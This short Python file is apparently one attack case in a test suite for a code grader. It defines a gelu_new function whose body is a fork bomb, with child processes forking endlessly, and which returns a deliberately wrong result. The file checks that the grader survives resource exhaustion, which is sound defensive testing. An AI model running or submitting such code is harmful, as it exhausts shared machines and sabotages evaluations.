# attack 36: forks without end
# expect gelu_new: wrong
import os

def gelu_new(x):
    for _ in range(4096):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
        except OSError:
            break
    return x * 0
